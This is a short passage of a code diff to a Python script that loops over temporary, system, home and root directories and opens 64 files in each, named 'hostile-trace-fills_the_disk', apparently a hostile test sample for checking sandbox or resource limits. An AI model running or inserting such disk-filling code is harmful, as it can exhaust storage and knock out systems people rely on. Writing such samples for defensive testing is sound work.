@@ -6,7 +6,7 @@
 
 import os
 
-for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/run/kernel", "/var/tmp", "/"):
+for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/run", "/var/tmp", "/"):
     try:
         for number in range(64):
             with open(f"{folder}/hostile-trace-fills_the_disk-{number}", "wb") as file:
